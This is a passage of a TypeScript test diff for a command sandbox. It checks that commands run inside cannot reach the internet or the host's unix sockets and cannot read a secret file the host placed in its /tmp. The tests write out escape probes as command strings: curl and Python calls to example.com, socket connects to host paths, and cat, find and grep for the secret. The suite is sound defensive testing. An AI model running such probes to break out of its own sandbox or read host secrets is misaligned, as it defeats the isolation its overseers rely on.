+        await new Promise<void>((resolve, reject) => {
+          const s = connect(port, '127.0.0.1', () => {
+            s.end();
+            resolve();
+          }).on('error', reject);
+        });
+        await waitFor(() => connections >= 1, 'the control connection');
+        expect(connections).toBe(1);
+      },
+      T,
+    );
+
+    it(
+      "the outside world and the host's unix sockets (a path in the host's /tmp, an abstract name) are unreachable",
+      async () => {
+        const socketPath = join(hostTmp, 'host.sock');
+        const abstract = `\0conch-escape-${tag}`;
+        let connections = 0;
+        for (const where of [socketPath, abstract]) {
+          const server = createServer((socket) => {
+            connections++;
+            socket.destroy();
+          });
+          servers.push(server);
+          await new Promise<void>((resolve) => server.listen(where, resolve));
+        }
+        const { run } = await setup();
+        for (const command of [
+          'curl -sS --max-time 10 https://example.com/',
+          `python3 -c "import urllib.request; urllib.request.urlopen('http://example.com/', timeout=10)"`,
+          `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${socketPath}')"`,
+          `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0conch-escape-${tag}')"`,
+        ]) {
+          const result = await run(command);
+          expect(result.returncode, `${command}: ${JSON.stringify(result)}`).not.toBe(0);
+        }
+        expect(connections).toBe(0);
+      },
+      T,
+    );
+  });
+
+  describe("the host's private /tmp", () => {
+    it(
+      'a file the host wrote in its /tmp is not visible',
+      async () => {
+        const secret = put(join(hostTmp, 'secret.txt'), `${secretValue}-in-tmp\n`);
+        const { run } = await setup();
+        for (const command of [
+          `cat ${secret}`,
+          'ls -la /tmp',
+          'find /tmp /var/tmp -name secret.txt',
+          `python3 -c "print(open('${secret}').read())"`,
+          `grep -r ${secretValue}-in-tmp /tmp`,
+        ]) {
+          const result = await run(command);
+          expect(seen(result), command).not.toContain(`${secretValue}-in-tmp`);
+          expect(result.stdout, command).not.toContain(hostTmp.split('/').pop());
+        }
+      },
+      T,
+    );
+  });
+});
